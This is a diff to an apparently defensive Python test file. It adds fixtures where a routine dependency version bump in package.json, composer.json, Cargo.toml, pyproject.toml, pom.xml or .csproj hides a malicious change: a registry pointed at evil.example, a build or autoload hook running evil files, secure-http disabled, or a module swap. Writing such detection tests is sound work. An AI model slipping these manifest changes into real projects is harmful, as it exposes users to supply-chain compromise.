@@ -115,7 +115,55 @@ def _attacks() -> dict[str, tuple[dict[str, str], dict[str, str]]]:
     out["Pipfile.lock: the source URL swapped, version unchanged"] = (
         {"Pipfile.lock": pipfile_lock("2.31.0", "https://pypi.org/simple")},
         {"Pipfile.lock": pipfile_lock("2.31.0", "https://evil.example/simple")})
+    for name, (base, head) in STRUCTURED.items():
+        out[name] = ({name.split(":")[0]: base}, {name.split(":")[0]: head})
     return out
+
+
+PACKAGE = '{\n  "name": "app",\n  "version": "1.0.0",\n  "dependencies": {\n    "lodash": "4.17.20"\n  }%s\n}\n'
+COMPOSER = '{\n    "require": {\n        "monolog/monolog": "2.0.1"\n    }%s\n}\n'
+CARGO = '[package]\nname = "app"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0.1"\n'
+PYPROJECT = '[project]\nname = "app"\nversion = "1"\ndependencies = ["requests==2.31.0"]\n'
+POM = ('<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>a</groupId>\n  <artifactId>b</artifactId>\n'
+       '  <version>1</version>\n%s  <dependencies>\n    <dependency>\n      <groupId>com.google.guava</groupId>\n'
+       '      <artifactId>guava</artifactId>\n      <version>32.0.0-jre</version>\n    </dependency>\n'
+       '  </dependencies>\n</project>\n')
+CSPROJ = ('<Project Sdk="Microsoft.NET.Sdk">\n%s  <ItemGroup>\n    <PackageReference Include="Newtonsoft.Json" '
+          'Version="13.0.1" />\n  </ItemGroup>\n</Project>\n')
+# Sections beside the dependency tables that change what is installed or from where, each with a bump.
+STRUCTURED = {
+    "package.json: pnpm.packageExtensions": (
+        PACKAGE % "", PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "pnpm": {"packageExtensions": '
+                                                             '{"lodash": {"dependencies": {"evil": "1.0.0"}}}}'),
+    "package.json: a browser field swapping a module": (
+        PACKAGE % "", PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "browser": {"lodash": "./evil.js"}'),
+    "package.json: workspaces": (
+        PACKAGE % "", PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "workspaces": ["vendor/*"]'),
+    "composer.json: config.secure-http off": (
+        COMPOSER % "", COMPOSER.replace("2.0.1", "2.0.2") % ',\n    "config": {"secure-http": false}'),
+    "composer.json: autoload files": (
+        COMPOSER % "", COMPOSER.replace("2.0.1", "2.0.2") % ',\n    "autoload": {"files": ["vendor-evil.php"]}'),
+    "Cargo.toml: a links/build key": (CARGO, CARGO.replace("1.0.1", "1.0.2").replace(
+        'version = "0.1.0"\n', 'version = "0.1.0"\nbuild = "evil.rs"\n')),
+    "pyproject.toml: a pdm source": (PYPROJECT, PYPROJECT.replace("2.31.0", "2.31.1")
+                                     + '\n[[tool.pdm.source]]\nname = "evil"\nurl = "https://evil.example/simple"\n'),
+    "pyproject.toml: a hatch build hook": (PYPROJECT, PYPROJECT.replace("2.31.0", "2.31.1")
+                                           + '\n[tool.hatch.build.hooks.custom]\npath = "evil.py"\n'),
+    "Pipfile: requires": ('[packages]\nrequests = "==2.31.0"\n\n[requires]\npython_version = "3.11"\n',
+                         '[packages]\nrequests = "==2.31.1"\n\n[requires]\npython_version = "3.8"\n'),
+    "pom.xml: a repository": (POM % "", POM.replace("32.0.0", "32.0.1") % (
+        "  <repositories>\n    <repository>\n      <id>evil</id>\n      <url>https://evil.example/maven</url>\n"
+        "    </repository>\n  </repositories>\n")),
+    "pom.xml: a plugin repository": (POM % "", POM.replace("32.0.0", "32.0.1") % (
+        "  <pluginRepositories>\n    <pluginRepository>\n      <id>evil</id>\n"
+        "      <url>https://evil.example/maven</url>\n    </pluginRepository>\n  </pluginRepositories>\n")),
+    "app.csproj: RestoreSources": (CSPROJ % "", CSPROJ.replace("13.0.1", "13.0.2") % (
+        "  <PropertyGroup>\n    <RestoreSources>https://evil.example/nuget/v3/index.json</RestoreSources>\n"
+        "  </PropertyGroup>\n")),
+    "app.csproj: RestoreAdditionalProjectSources, a folder": (CSPROJ % "", CSPROJ.replace("13.0.1", "13.0.2") % (
+        "  <PropertyGroup>\n    <RestoreAdditionalProjectSources>../evil-feed</RestoreAdditionalProjectSources>\n"
+        "  </PropertyGroup>\n")),
+}
 
 
 ATTACKS = _attacks()
@@ -152,6 +200,11 @@ QUIET = {
                              + "b" * 64 + "\nsix==1.16.0 \\\n    --hash=sha256:" + "c" * 64 + "\n"},
         {"requirements.txt": "requests==2.31.1 \\\n    --hash=sha256:" + "d" * 64 + " \\\n    --hash=sha256:"
                              + "e" * 64 + "\nsix==1.16.0 \\\n    --hash=sha256:" + "c" * 64 + "\n"}),
+    "package.json bump beside a release and a test script": (
+        {"package.json": PACKAGE % ',\n  "scripts": {"test": "jest"}'},
+        {"package.json": PACKAGE.replace("4.17.20", "4.17.21") % ',\n  "scripts": {"test": "jest"}'}),
+    "Cargo.toml bump": (
+        {"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace("1.0.1", "1.0.2")}),
     "Pipfile.lock bump": ({"Pipfile.lock": pipfile_lock("2.31.0", "https://pypi.org/simple")},
                           {"Pipfile.lock": pipfile_lock("2.31.1", "https://pypi.org/simple")}),
 }
